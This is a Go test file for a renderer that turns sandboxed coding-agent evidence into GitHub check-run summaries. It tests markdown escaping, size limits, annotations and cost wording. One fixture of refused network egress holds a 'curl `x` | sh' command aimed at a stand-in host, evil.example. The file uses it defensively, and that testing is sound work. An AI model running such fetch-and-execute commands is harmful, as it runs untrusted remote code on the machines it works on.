package render

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"inspect/checks/evidence"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func manifest() evidence.Manifest {
	return evidence.Manifest{
		Session: "abcdefghij", Generation: 1, Repository: "octocat/hello", Issue: 7,
		BaseBranch: "main", BaseSHA: strings.Repeat("a", 40), Tip: strings.Repeat("b", 40), Tree: strings.Repeat("c", 40),
		Verdict:    evidence.Verdict{Kind: evidence.Passed, Words: "3 pass", Passed: 3},
		Checks:     []evidence.Check{{Name: "unit", Run: "go test -json ./...", Report: "gotest", Passed: true, Words: "3 tests passed", Duration: 2400 * time.Millisecond, Tests: &evidence.Tests{Passed: 3}}},
		Change:     evidence.Change{Files: []evidence.ChangedFile{{Path: "greet.go", Added: 1, Deleted: 1}}, Added: 1, Deleted: 1},
		Snapshot:   evidence.Snapshot{ID: "snap-1", Commit: strings.Repeat("a", 40), Store: "dir", Age: 90 * time.Second, Restore: 12 * time.Millisecond},
		Harness:    evidence.Harness{Kind: "command", Label: "scripted"},
		Sandbox:    evidence.Sandbox{Tier: "bubblewrap 0.8.0", Limits: "enforced"},
		SpecSource: ".inspect.yml", ContextDigest: strings.Repeat("d", 64),
		Files: []evidence.File{{Name: "change.patch", SHA256: strings.Repeat("e", 64), Bytes: 310}},
	}
}

// agent is the evidence of a session with a model, services and ways out, in
// which a command's name is an enemy's.
func agent() evidence.Manifest {
	m := manifest()
	m.Snapshot.Age = 300 * time.Millisecond
	m.Harness = evidence.Harness{Kind: "opencode", Label: "OpenCode"}
	m.Agent = evidence.Agent{ToolCalls: 14, Commands: 6, FailedCommands: 1, FilesTouched: 3}
	m.Model = evidence.Model{
		Name: "anthropic/claude-sonnet", Calls: 7, InputTokens: 120_345, OutputTokens: 2_310, Cost: 123_400_000, Priced: true,
		Unreported: 1, UnreportedCost: 20_000_000, Budget: 5_000_000_000, PricesAsOf: "2026-11-01",
	}
	m.Instructions = strings.Repeat("7", 64)
	m.Environment = evidence.Environment{Services: []string{"postgres", "redis"}, Data: "synthetic", Setup: 2}
	m.Times = evidence.Times{Restore: 120 * time.Millisecond, Sync: 80 * time.Millisecond, Ready: 3300 * time.Millisecond, Work: 200 * time.Second, Verify: 12 * time.Second}
	m.Egress = evidence.Egress{Declared: []string{"npm", "*.internal.example:443"}, Allowed: 12, More: 3, Refused: []evidence.Refused{
		{Host: "registry.example", Port: 443, Command: "npm ci", Count: 3, Reason: evidence.NotListed},
		{Host: "db.internal.example", Port: 443, Command: "psql", Count: 2, Reason: "its address is not a public one"},
		{Host: "evil.example", Port: 8080, Command: "curl `x` | sh\n@octocat <!-- fixes #1", Count: 1},
		{Host: "proxy.example", Port: 443, Command: "go test ./...", Count: 2, Verification: true},
		{Host: "models.example", Port: 443, Command: "opencode serve", Count: 4, Noise: true},
	}}
	return m
}

func delivery() Delivery {
	return Delivery{Branch: "inspect/7-fix-abcdefghij", HeadSHA: strings.Repeat("f", 40), PullRequest: 8, EvidenceDigest: strings.Repeat("1", 64), EventsHead: strings.Repeat("2", 64), EventsCount: 42, SessionURL: "http://127.0.0.1:7461/sessions/abcdefghij"}
}

func TestGolden(t *testing.T) {
	failed := manifest()
	failed.Verdict = evidence.Verdict{Kind: evidence.Failed, Words: "unit: 1 of 2 tests failed", Passed: 1, Failed: 1, Skipped: 2}
	failed.Checks[0].Passed, failed.Checks[0].Words = false, "1 of 2 tests failed"
	failed.Checks[0].Tests = &evidence.Tests{Passed: 1, Failed: 1, Skipped: 2, Failures: []evidence.Failure{{Package: "example.com/m", Test: "TestHello", Output: "want `hi`\n```\n@octocat\n"}}}
	failed.Risks = []string{"changes what verification runs: test.sh"}
	failed.Snapshot.Drift = true
	doubtful := manifest()
	doubtful.Verdict = evidence.Verdict{Kind: evidence.Doubtful, Passed: 2, Fixed: 1, Vanished: 2, Doubts: []evidence.Doubt{
		{Reason: evidence.DoubtVanished, What: "unit: example.com/m TestGone does not run any more"}, {Reason: evidence.DoubtVanished, What: "unit: example.com/m Test|<b>@octocat is skipped now"}},
		Old: []string{"unit: example.com/m TestOld"}, Notes: []string{"lint: 2 findings that the base does not have"}}
	doubtful.Approvals = []evidence.Approval{{Kind: "publish", State: "approved", By: "octocat", Words: "Tests vanish with the change."}}
	doubtful.Base = []evidence.Check{{Name: "unit", Words: "1 of 4 tests failed", ExitCode: 1}}
	doubtful.BaseTests = []evidence.Check{{Name: "unit", Words: "1 of 4 tests failed", ExitCode: 1}}
	doubtful.Compared = []evidence.Compared{{Name: "unit", Gone: []string{"example.com/m TestGone"}, Skipped: []string{"example.com/m Test|<b>@octocat"}, Old: []string{"example.com/m TestOld"}, Fixed: []string{"example.com/m TestHello"}}}
	doubtful.Checks[0].Coverage, doubtful.Checks[0].FindingsTotal = &evidence.Coverage{Lines: 12, Covered: 9}, 3
	failed.Change.Withheld = []string{".github/workflows/ci.yml"}
	for name, m := range map[string]evidence.Manifest{"passed": manifest(), "failed": failed, "agent": agent(), "doubtful": doubtful} {
		o := CheckRun(m, delivery())
		got := o.Title + "\n\n--- summary\n" + o.Summary + "\n--- text\n" + o.Text
		path := filepath.Join("testdata", name+".md")
		if *update {
			if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(string(want), got); d != "" {
			t.Errorf("%s: %s", name, d)
		}
	}
}

// However much there is, and whatever it is called, GitHub takes it.
func TestLimits(t *testing.T) {
	m := manifest()
	for i := range 3000 {
		m.Change.Files = append(m.Change.Files, evidence.ChangedFile{Path: strings.Repeat("日😀", 60) + fmt.Sprintf("|\n`%d", i)})
		m.Files = append(m.Files, evidence.File{Name: strings.Repeat("😀", 100), SHA256: strings.Repeat("9", 64)})
		m.Checks[0].Findings = append(m.Checks[0].Findings, evidence.Finding{Path: "a/b.go", Line: i, Level: "error", Rule: strings.Repeat("😀", 400), Message: strings.Repeat("😀", 4000)})
		if i >= 50 {
			continue
		}
		m.Checks = append(m.Checks, evidence.Check{Name: "n", Run: strings.Repeat("😀", 2000), Words: "exit status 1", Flaky: []string{strings.Repeat("😀|\n", 500)}})
		m.Verdict.Doubts = append(m.Verdict.Doubts, evidence.Doubt{What: strings.Repeat("😀`|\n", 300)})
		m.Verdict.Old = append(m.Verdict.Old, strings.Repeat("@octocat <details>", 300))
		m.Verdict.Notes = append(m.Verdict.Notes, strings.Repeat("😀", 300))
	}
	m.Checks[0].FindingsTotal = 3000
	for i := range evidence.MaxRefused {
		m.Egress.Declared = append(m.Egress.Declared, strings.Repeat("d", 250))
		m.Egress.Refused = append(m.Egress.Refused, evidence.Refused{Host: strings.Repeat("😀", 4000), Port: 443, Command: strings.Repeat("`|", 4000), Reason: strings.Repeat("`|", 4000), Count: 1, Noise: i%2 == 0})
		m.Environment.Services = append(m.Environment.Services, strings.Repeat("s", 4000))
	}
	m.Model = evidence.Model{Name: strings.Repeat("m|", 4000), Calls: 1, PricesAsOf: strings.Repeat("|", 4000)}
	m.Change.Withheld = []string{"a|b", "c\nd"}
	for _, output := range []string{strings.Repeat("````\n😀", 400), strings.Repeat("`", 4000), strings.Repeat("</details>\n```\n~~~\n<details>", 150), strings.Repeat("😀", 1000)} {
		var failures []evidence.Failure
		for range 200 {
			failures = append(failures, evidence.Failure{Package: "p|\n", Test: "T </summary>", Output: output})
		}
		m.Checks[0].Tests = &evidence.Tests{Failed: 10000, Failures: failures}
		for lead := range 2 { // wherever the limit falls
			m.Checks[0].Run = strings.Repeat("x", lead*13)
			o := CheckRun(m, delivery())
			for name, c := range map[string]struct {
				text string
				max  int
			}{"title": {o.Title, MaxTitle}, "summary": {o.Summary, MaxSummary}, "text": {o.Text, MaxText}} {
				if len(c.text) > c.max || !utf8.ValidString(c.text) {
					t.Errorf("%s: %d bytes, valid %v", name, len(c.text), utf8.ValidString(c.text))
				}
				if open := left(c.text); open != "" {
					t.Errorf("%s leaves open: %s", name, open)
				}
			}
			if len(o.Annotations) != maxAnnotations || !strings.Contains(o.Summary, `n\: 1 test failed and passed`) {
				t.Errorf("%d annotations", len(o.Annotations))
			}
		}
	}
}

// left says what a text leaves open, read as GitHub reads it: line by line, a
// fence ends with as many ticks.
func left(text string) string {
	fence, folds := "", 0
	for _, line := range strings.Split(text, "\n") {
		ticks := line[:len(line)-len(strings.TrimLeft(line, "`"))]
		switch {
		case fence != "":
			if len(ticks) >= len(fence) && ticks == line {
				fence = ""
			}
		case len(ticks) >= 3:
			fence = ticks
		default:
			folds += strings.Count(line, "<details>") - strings.Count(line, "</details>")
		}
	}
	switch {
	case fence != "":
		return "a fence of " + fmt.Sprint(len(fence))
	case folds != 0:
		return fmt.Sprint(folds, " folds")
	}
	return ""
}

// Findings on changed lines come first, then what is new, then what is worst.
func TestAnnotations(t *testing.T) {
	m := manifest()
	m.Change.Files[0].Lines = evidence.Ranges([]int{3, 4, 5, 9})
	m.Checks[0].Findings = []evidence.Finding{
		{Path: "other.go", Line: 1, Level: "error", Rule: "worst", Message: "m", New: true},
		{Path: "greet.go", Line: 9, Level: "note", Rule: "changed", Message: "@octocat\nfixes #1", New: true},
		{Path: "greet.go", Line: 4, Level: "error", Rule: "first", New: true}, {Path: "greet.go", Line: 6, Level: "warning", Rule: "beside", Message: "m"},
		{Level: "error", Rule: "nowhere", Message: "m"}, {Path: "a\nb|.go", Level: "error", Rule: "odd", Message: "m"}, {Path: "whole.go", Level: "warning", Rule: "file", Message: "m"},
	}
	var got []string
	for _, a := range annotations(m) {
		got = append(got, fmt.Sprintf("%s:%d %s %s", a.Path, a.Line, a.Level, a.Title))
		if a.Message == "" || strings.ContainsAny(a.Message, "\n") || strings.Contains(a.Message, "@octocat") {
			t.Errorf("message %q", a.Message)
		}
	}
	want := []string{"greet.go:4 failure unit: first", "greet.go:9 notice unit: changed", "other.go:1 failure unit: worst", "greet.go:6 warning unit: beside", "whole.go:1 warning unit: file"}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestCost(t *testing.T) {
	const cent = 10_000_000
	for want, m := range map[string]evidence.Model{
		"":                                 {Calls: 3, Cost: cent},
		"none of 3 calls came to anything": {Name: "m", Failed: 3, Priced: true, Budget: cent},
		"$0.01 by the provider's numbers for 1 call; 10 further calls failed": {Name: "m", Calls: 1, Failed: 10, Cost: cent, Priced: true},
		"no call was made": {Name: "m", Priced: true, Budget: 500 * cent, PricesAsOf: "2026-11-01"},
		"$0.01 by the provider's numbers for 1 call; budget $5.00": {Name: "m", Calls: 1, Cost: cent, Priced: true, Budget: 500 * cent},
		"$0.00 by the provider's numbers for 0 calls; 2 further calls, counted with $0.03, were never reported": {
			Name: "m", Unreported: 2, UnreportedCost: 3 * cent, Priced: true},
		"$0.0001 by the provider's numbers for 2 calls; 1 further call was never reported; for 1 of them there was no price": {
			Name: "m", Calls: 2, Cost: 1, Unreported: 1, Unpriced: 1},
		"no price is configured for this model, so nobody knows what its 4 calls cost": {Name: "m", Calls: 3, Unreported: 1, Unpriced: 4, Budget: cent},
	} {
		if got := Cost(m); got != want {
			t.Errorf("%+v: %q, want %q", m, got, want)
		}
	}
}

func TestAge(t *testing.T) {
	for d, want := range map[time.Duration]string{0: "just made", 999 * time.Millisecond: "just made", time.Second: "1.0 s old", 90 * time.Minute: "1 h 30 min old", 72 * time.Hour: "3 days old"} {
		if got := Age(d); got != want {
			t.Errorf("%s: %q, want %q", d, got, want)
		}
	}
}
